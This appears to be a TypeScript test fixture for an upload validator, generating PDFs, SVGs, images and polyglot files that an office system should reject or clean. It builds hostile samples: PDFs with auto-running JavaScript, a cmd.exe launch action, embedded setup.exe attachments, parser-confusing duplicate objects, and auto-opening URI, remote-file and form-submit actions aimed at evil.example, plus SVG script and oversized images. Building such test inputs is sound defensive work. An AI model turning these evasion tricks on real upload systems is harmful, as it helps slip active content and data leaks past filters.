import {
  bytesOf,
  colour,
  type Extras,
  foreign,
  noise,
  onePage,
  pages,
  pdfOf,
  pngOfSize,
  stream,
} from "../../tests/help/upload-files.ts";

/** A file that is sent to the office. */
export interface SentFile {
  name: string;
  bytes: Uint8Array;
}

const script = "/JS (app.alert\\(1\\))";
const embedded = stream("/Type/EmbeddedFile", bytesOf("MZ setup"));

/** An action of the catalog, and the objects from number 6 on that it refers to. */
const opening = (action: string, ...objects: (string | Buffer)[]): Buffer =>
  onePage({ catalog: `/OpenAction ${action}`, objects });

/** A PDF with an attached file: its annotation is object 6, the rest follows. */
const attached = (spec: string, ...objects: (string | Buffer)[]): Buffer =>
  onePage({
    page: "/Annots[6 0 R]",
    objects: [`<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS ${spec}>>`, ...objects],
  });

/** A PDF in which an object occurs twice: readers follow the table at the end, to the one with a script. */
function twice(): Buffer {
  const catalog = "<</Type/Catalog/Pages 2 0 R";
  const file = opening(`<</S/JavaScript${script}>>`).toString("latin1");
  const list = file.lastIndexOf("xref\n0 ");
  const start = (position: number) => `startxref\n${position}\n%%EOF\n`;
  const harmless = `1 0 obj\n${catalog}>>\nendobj\n`;
  const end = file.slice(list, file.lastIndexOf("startxref"));
  return bytesOf(`${file.slice(0, list)}${harmless}${end}${start(list + harmless.length)}`);
}

const extras = (extra: Extras) => onePage(extra);

/** PDFs that do more than show pages, each in a different way. */
export const activePdfs: Record<string, () => Buffer> = {
  "a script": () => opening(`<</S/JavaScript${script}>>`),
  "a script with an escaped name": () => opening(`<</S/Java#53cript${script}>>`),
  "a script whose kind is a reference": () => opening(`<</S 6 0 R${script}>>`, "/JavaScript"),
  "a program whose kind is a reference": () => opening("<</S 6 0 R/F(cmd.exe)>>", "/Launch"),
  "an action that is a reference to a script": () => opening("6 0 R", `<</S/JavaScript${script}>>`),
  "a script after a link": () => opening(`<</S/GoTo/D[3 0 R/Fit]/Next 6 0 R>>`, `<</S 7 0 R${script}>>`, "/JavaScript"),
  "a named script": () =>
    extras({
      catalog: "/Names 6 0 R",
      objects: ["<</JavaScript 7 0 R>>", `<</Names[(a)<</S/JavaScript${script}>>]>>`],
    }),
  "a script of a page": () => extras({ page: "/AA<</O 6 0 R>>", objects: [`<</S 7 0 R${script}>>`, "/JavaScript"] }),
  "an attachment": () => attached("<</Type/Filespec/F(setup.exe)/EF<</F 7 0 R>>>>", embedded),
  "an attachment by reference": () =>
    attached("7 0 R", "<</Type/Filespec/F(setup.exe)/EF 8 0 R>>", "<</F 9 0 R>>", embedded),
  "an object twice": twice,
  "an address that opens by itself": () => opening("<</S/URI/URI(https://evil.example/)>>"),
  "another file that opens by itself": () => opening("<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)/D[0/Fit]>>"),
  "a form that is sent by itself": () => opening("<</S 6 0 R/F(https://evil.example/)>>", "/SubmitForm"),
};

/** Ordinary PDFs of an office, which must be accepted. */
export const ordinaryPdfs: Record<string, () => Buffer> = {
  "one page": () => onePage(),
  "three pages": () => pages(3),
  "a link": () =>
    onePage({
      page: "/Annots[6 0 R]",
      objects: ["<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://www.pci.nic.in/)>>>>"],
    }),
  "a page to open at": () => onePage({ catalog: "/OpenAction[3 0 R/Fit]" }),
};

const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`;

/** Files that are neither pictures nor PDFs, or far too large. */
export const refusedFiles: Record<string, () => SentFile | Promise<SentFile>> = {
  "an SVG": () => ({ name: "a.svg", bytes: bytesOf(svg) }),
  "an SVG as a JPEG": () => ({ name: "a.jpg", bytes: bytesOf(svg) }),
  "a page as a PDF": () => ({ name: "a.pdf", bytes: foreign.html }),
  "a ZIP as a PDF": () => ({ name: "a.pdf", bytes: foreign.zip }),
  "a PDF with 2 KB behind it": () => ({ name: "a.pdf", bytes: Buffer.concat([onePage(), bytesOf("a".repeat(2_000))]) }),
  "a picture of 25,000 x 25,000": () => ({ name: "a.png", bytes: pngOfSize(25_000, 25_000) }),
  "a picture of 1 x 60,000,000": () => ({ name: "a.png", bytes: pngOfSize(1, 60_000_000) }),
  "a photograph of 12 MB": async () => ({
    name: "a.jpg",
    bytes: await noise(3_000, 3_000).jpeg({ quality: 100 }).toBuffer(),
  }),
  "a PDF of 12 MB": () => ({
    name: "a.pdf",
    bytes: pdfOf([
      "<</Type/Catalog/Pages 2 0 R>>",
      "<</Type/Pages/Kids[]/Count 0>>",
      stream("", Buffer.alloc(12_000_000, 65)),
    ]),
  }),
};

/** Pictures and a PDF with something else around them: the stored file must be without it. */
export const polyglots: Record<string, () => Promise<SentFile>> = {
  "a JPEG with a page behind it": async () => ({
    name: "a.jpg",
    bytes: Buffer.concat([await colour(300, 200).jpeg().toBuffer(), foreign.html]),
  }),
  "a PNG with a ZIP behind it": async () => ({
    name: "a.png",
    bytes: Buffer.concat([await colour(200, 300).png().toBuffer(), foreign.zip]),
  }),
  "a PDF with a page before and a ZIP behind it": async () => ({
    name: "a.pdf",
    bytes: Buffer.concat([foreign.html, onePage({ catalog: "/Lang(en-IN)" }), foreign.zip]),
  }),
};
